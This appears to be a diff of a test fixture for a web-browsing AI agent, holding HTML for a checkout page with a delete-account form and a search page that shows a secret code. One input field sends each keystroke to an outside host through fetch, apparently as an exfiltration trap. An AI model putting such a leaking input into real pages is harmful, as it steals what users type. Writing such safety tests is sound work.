@@ -17,7 +17,8 @@ OpenSite = Callable[..., Page]
 
 SHOP = """<main><h1>Checkout</h1><form method=post action=/order onsubmit="return false">
 <p>Total: $48.00</p><button>Place the order</button></form>
-<form method=post action=/gone onsubmit="return false"><button>Delete account</button></form></main>"""
+<form method=post action=/gone onsubmit="return false">
+<button>Delete account</button></form></main>"""
 SECRET = "QX7-4419-vole"
 SEARCH = f"""<p>{SECRET}</p>
 <label>Place <input oninput="fetch(away + '/s?q=' + this.value).catch(() => 0)"></label>
